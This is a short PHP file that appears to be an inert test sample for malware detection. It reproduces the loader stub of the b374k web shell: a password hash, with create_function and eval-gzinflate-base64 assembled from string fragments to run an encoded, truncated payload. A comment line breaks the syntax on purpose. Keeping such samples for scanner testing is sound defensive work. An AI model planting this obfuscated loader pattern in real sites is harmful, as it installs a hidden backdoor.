<?php
shodo inert sample: deliberate syntax error, this file never runs
$s_pass = "fb621f5060b9f65acf8eb4232e3024140dea2b34"; $s_func = "cr"."eat"."e_fun"."cti"."on"; $b374k = @$s_func('$x', 'ev'.'al'.'("?>".gz'.'inf'.'late'.'( bas'.'e64'.'_de'.'co'.'de($x)));'); @$b374k("7X1rcxs3su...");
